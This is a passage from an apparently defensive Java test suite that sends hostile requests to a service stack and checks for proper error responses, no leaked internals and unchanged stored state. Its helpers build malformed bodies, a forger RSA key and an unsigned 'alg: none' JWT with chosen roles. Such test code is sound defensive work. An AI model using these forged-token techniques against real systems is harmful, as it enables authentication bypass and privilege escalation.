        assertThat(problem.path("status").asInt()).as("%s status member", attack).isEqualTo(a.status());
        assertThat(problem.path("title").asString()).as("%s title", attack).isNotBlank();
        assertThat(a.body()).as("%s leaks internals", attack)
                .doesNotContain("Exception", "\tat ", "java.lang", "org.springframework", "tools.jackson");
        if (attack.namedField() != null) {
            List<String> fields = new ArrayList<>();
            problem.path("errors").forEach(err -> fields.add(err.path("field").asString()));
            assertThat(fields).as("%s names the field", attack)
                    .anyMatch(f -> f.contains(attack.namedField()) || f.equals("body"));
        }
        List<String> changed = RunningStack.changes(baseline, stack.fingerprint());
        if (!changed.isEmpty()) {
            // Background work (a retried delivery, a scheduled sweep) may have landed between two attacks: on the
            // settled state, the same attack again must change nothing.
            System.out.println("[hostile] state moved after " + attack + ": " + changed + "; trying it again");
            baseline = stack.settledFingerprint();
            RunningStack.send(attack.method(), attack.path(), attack.token(), attack.contentType(), attack.body());
            changed = RunningStack.changes(baseline, stack.fingerprint());
        }
        assertThat(changed).as("%s changed the stored state", attack).isEmpty();
    }

    // ---- helpers ----

    private static Attack attack(String what, BodyEndpoint e, String token, String body, Field f) {
        return new Attack(what, e.service(), e.method(), e.path(), token, "application/json", body, Set.of(400),
                f.leaf());
    }

    private static Attack get(String what, String service, String url, String token, int expected) {
        return new Attack(what, service, "GET", url, token, null, null, Set.of(expected), null);
    }

    /** The valid body with the field at a dotted path replaced (or removed when {@code value} is null). */
    private static String edit(String validBody, String path, JsonNode value) {
        JsonNode root = EventJson.mapper().readTree(validBody);
        String[] parts = path.split("\\.");
        JsonNode parent = root;
        for (int i = 0; i < parts.length - 1; i++) {
            parent = parts[i].matches("\\d+") ? parent.get(Integer.parseInt(parts[i])) : parent.get(parts[i]);
        }
        String leaf = parts[parts.length - 1];
        if (value == null) {
            ((ObjectNode) parent).remove(leaf);
        } else {
            ((ObjectNode) parent).set(leaf, value);
        }
        return root.toString();
    }

    /** A list one longer than allowed (or, for lists that must not be empty, an empty one). */
    private static JsonNode tooMany(String validBody, Field f) {
        JsonNode current = EventJson.mapper().readTree(validBody).get(f.path());
        ArrayNode list = EventJson.mapper().createArrayNode();
        if (f.max() == 0) {
            return list;
        }
        for (int i = 0; i <= f.max(); i++) {
            list.add(current.get(0).deepCopy());
        }
        return list;
    }

    private static JsonNode text(String value) {
        return EventJson.mapper().getNodeFactory().stringNode(value);
    }

    private static RSAKey forgerKey() {
        try {
            return new RSAKeyGenerator(2048).keyID("embedded-dev").algorithm(JWSAlgorithm.RS256).generate();
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    /** A token with {@code alg: none}: claims that nobody signed. */
    private static String unsigned(String person, String role) {
        Base64.Encoder b64 = Base64.getUrlEncoder().withoutPadding();
        long now = System.currentTimeMillis() / 1000;
        String header = b64.encodeToString("{\"alg\":\"none\"}".getBytes(StandardCharsets.UTF_8));
        String claims = b64.encodeToString(("{\"iss\":\"" + DevSigningKey.ISSUER + "\",\"sub\":\"" + person
                + "\",\"roles\":[\"" + role + "\"],\"iat\":" + now + ",\"exp\":" + (now + 300) + "}")
                .getBytes(StandardCharsets.UTF_8));
        return header + "." + claims + ".";
    }

    private static String abbreviate(String s) {
        return s.length() <= 80 ? s : s.substring(0, 77) + "...";
    }
}
